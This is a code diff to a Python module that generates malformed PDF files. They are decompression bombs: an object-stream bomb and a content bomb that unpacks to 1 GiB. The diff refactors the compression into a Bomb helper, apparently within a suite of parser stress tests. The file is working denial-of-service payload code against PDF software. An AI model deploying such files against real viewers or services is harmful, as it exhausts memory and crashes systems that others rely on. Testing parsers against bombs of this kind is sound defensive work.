@@ -4,7 +4,7 @@
 import hashlib
 import zlib
 
-from attack import Attack, cut
+from attack import Attack, Bomb, cut
 
 SHOW = b"BT /F1 12 Tf 72 720 Td (Guidang) Tj ET"
 FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
@@ -73,12 +73,9 @@ def object_bomb() -> bytes:
     far = 1 << 30
     head = b"2 0 3 %d " % far
     tree = objects()[2].ljust(1 << 20)
-    pack = zlib.compressobj(9)
-    packed = [pack.compress(head + tree)]
-    packed += [pack.compress(b" " * (1 << 20)) for _ in range(far - len(tree) >> 20)]
-    packed += [pack.compress(objects()[3]), pack.flush()]
+    once = Bomb((head + tree, 1), (b" " * (1 << 20), (far >> 20) - 1), (objects()[3], 1))
     entries = b" /Type /ObjStm /N 2 /First %d /Filter [/FlateDecode /FlateDecode]" % len(head)
-    stored = stream(zlib.compress(b"".join(packed), 9), entries)
+    stored = stream(zlib.compress(once.zlib(), 9), entries)
     parts = {1: objects()[1], 4: objects()[4], 5: FONT, 6: stored}
     out = bytearray(b"%PDF-1.5\n")
     rows = {0: (0, 0, 255), 2: (2, 6, 0), 3: (2, 6, 1)}
@@ -96,12 +93,8 @@ def object_bomb() -> bytes:
 
 def content_bomb() -> bytes:
     """The page's content unpacks to 1 GiB of text operators, twice packed."""
-    once = zlib.compressobj(9)
-    piece = b"(A) Tj " * (1 << 17)
-    packed = [once.compress(SHOW[:-2])]
-    packed += [once.compress(piece) for _ in range(1170)]
-    packed += [once.compress(b"ET"), once.flush()]
-    twice = zlib.compress(b"".join(packed), 9)
+    once = Bomb((SHOW[:-2], 1), (b"(A) Tj " * (1 << 17), 1170), (b"ET", 1))
+    twice = zlib.compress(once.zlib(), 9)
     return pdf(objects(stream(twice, b" /Filter [/FlateDecode /FlateDecode]")))
 
 
